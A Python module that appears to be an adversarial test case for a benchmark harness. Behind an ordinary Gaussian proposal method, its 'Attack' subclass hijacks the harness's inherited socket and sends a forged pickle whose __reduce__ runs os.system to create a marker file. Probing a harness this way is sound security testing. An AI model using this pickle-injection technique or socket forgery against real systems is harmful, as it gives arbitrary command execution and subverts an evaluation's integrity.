"""Attack: write a forged message straight onto the harness connection: a pickle that would run a
command if the harness unpickled it (config ``marker``: the file the command would create)."""

import math
import os
import pickle
import socket
import struct
import sys

import torch

from benchmark.adapter import ProposalMethod, SourceFacts


class Gaussian(ProposalMethod):
    """The example submission in a few lines: q = N(x_min, 0.01^2 I), exact log density."""

    sigma = 0.01

    def source_facts(self, system, ctx):
        return SourceFacts(coordinate_scale_nm=0.05, com="absolute", batch_size=500)

    def propose(self, system, n, ctx):
        mean = torch.as_tensor(system.minimized_positions)
        x = mean + self.sigma * torch.randn((n, *mean.shape), generator=ctx.generator, dtype=torch.float64)
        return x, self.log_q(system, x, ctx)

    def log_q(self, system, x, ctx):
        mean = torch.as_tensor(system.minimized_positions, dtype=x.dtype)
        d = x[0].numel()
        sq = ((x - mean) ** 2).flatten(1).sum(1)
        return -0.5 * sq / self.sigma**2 - d * math.log(self.sigma) - 0.5 * d * math.log(2 * math.pi)


class Payload:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


class Attack(Gaussian):
    name = "attack-wire-forgery"

    def propose(self, system, n, ctx):
        fd = int(sys.argv[sys.argv.index("--fd") + 1])
        body = pickle.dumps(Payload(self.overrides["marker"]))
        with socket.socket(fileno=os.dup(fd)) as sock:
            sock.sendall(b"BGW1" + struct.pack("<I", len(body)) + body)
        return super().propose(system, n, ctx)
